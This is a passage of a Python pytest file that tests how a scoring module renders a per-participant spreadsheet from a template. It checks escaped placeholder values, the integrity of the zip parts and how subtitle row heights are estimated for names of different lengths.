    with zipfile.ZipFile(out) as zf:
        content = zf.read("content.xml").decode("utf-8")
    helps = re.findall(r"<table:help-message[^>]*>(.*?)</table:help-message>", content, re.S)
    assert helps and any("Ind_x0041_1" in h for h in helps) and any("Res_x0042_1" in h for h in helps), helps


@pytest.mark.parametrize("who", [
    IDA,
    Participant("D02", "Å & <b> _x0041_ \x01 \"navn\"", themes="1, 2"),
    Participant("D03", "", themes="99"),
    Participant("D04", "Ida " * 40 + "&", themes="2"),
])
def test_render_is_the_template_with_the_values_put_in(template, setup, who):
    """Every part of a rendered workbook (zip CRCs checked by ``testzip``) is the template's part
    with each placeholder replaced by the participant's escaped value by plain text replacement:
    the prepared deflate segments and the CRCs carried across them change nothing."""
    name = scoring.display_name(who)
    token = setup.token(who.pid)
    sst = {"NAME": name, "PID": who.pid, "TOKEN": token, "THEMES": scoring.themes_text(setup, who),
           "THEMEIDS": scoring.theme_ids_text(setup, who)}
    expected = {}
    for part, data in parts(template.template_bytes).items():
        text = data.decode("utf-8")
        if part == "xl/sharedStrings.xml":
            values = {k: scoring._sst_text(v) for k, v in sst.items()}
        elif part == "docProps/custom.xml":
            values = {"PID": scoring._xml_text(who.pid), "TOKEN": scoring._xml_text(token)}
        else:  # the page header's name; the subtitle rows' heights (their adequacy: test_print_layout)
            themes = scoring.themes_text(setup, who)
            values = {"HNAME": scoring._header_text(name),
                      "GUIDEH": "%g" % scoring.subtitle_height(scoring.T["for"]("da", name=name) + themes, "GUIDEH"),
                      "EVALH": "%g" % scoring.subtitle_height(scoring.T["participant"]("da", name=name) + themes,
                                                              "EVALH")}
        for key, value in values.items():
            text = text.replace(template.placeholders[key], value)
        expected[part] = text.encode("utf-8")
    assert parts(template.render(who)) == expected


@pytest.mark.parametrize("name,themes", [
    ("Bo", ""), ("Ida Ørsted", "1; 5"), ("Margrethe Kristine Vestergaard-Østergaard", "1; 5; 7"),
    ("x" * 60, ""), ("x" * 61, ""), ("y" * 200, "2"), ("Ida\tTab", ""), ("Ida\nNy linje", "3"),
])
def test_subtitle_height_per_participant(template, setup, name, themes):
    """The subtitle row's height in a rendered file is the estimate for that participant's text
    (the shortcut for a one-line text gives what the estimate gives); a longer text, a taller row."""
    who = Participant("D42", name, themes=themes)
    shown = scoring.display_name(who)
    theme_text = scoring.themes_text(setup, who)
    for key, msg in (("GUIDEH", "for"), ("EVALH", "participant")):
        want = scoring.subtitle_height(scoring.T[msg]("da", name=shown) + theme_text, key)
        assert template._subtitle_height(key, shown, theme_text) == b"%g" % want
    wb = openpyxl.load_workbook(io.BytesIO(template.render(who)))
    one_line = scoring._row_height(1, scoring.SUBTITLE_FONT_SIZE)
    for sheet in ("Vejledning", "Evaluering"):
        height = wb[sheet].row_dimensions[scoring.SUBTITLE_ROW].height
        assert height >= one_line
        if len(name) > 100:
            assert height >= scoring._row_height(2, scoring.SUBTITLE_FONT_SIZE), sheet


def test_subtitle_height_shortcut_at_the_line_length(template, setup):
    """Around the length where the estimate starts a second line the shortcut and the estimate agree."""
    for key, msg in (("GUIDEH", "for"), ("EVALH", "participant")):
        fixed = len(scoring.T[msg]("da", name=""))
        per_line = scoring._chars_per_line(scoring.SUBTITLE_WIDTHS[key], scoring.SUBTITLE_FONT_SIZE, True)
        for n in range(per_line - fixed - 3, per_line - fixed + 4):
            for name in ("a" * n, ("ab " * n)[:n]):
                want = scoring.subtitle_height(scoring.T[msg]("da", name=name), key)
                assert template._subtitle_height(key, name, "") == b"%g" % want, (key, n)
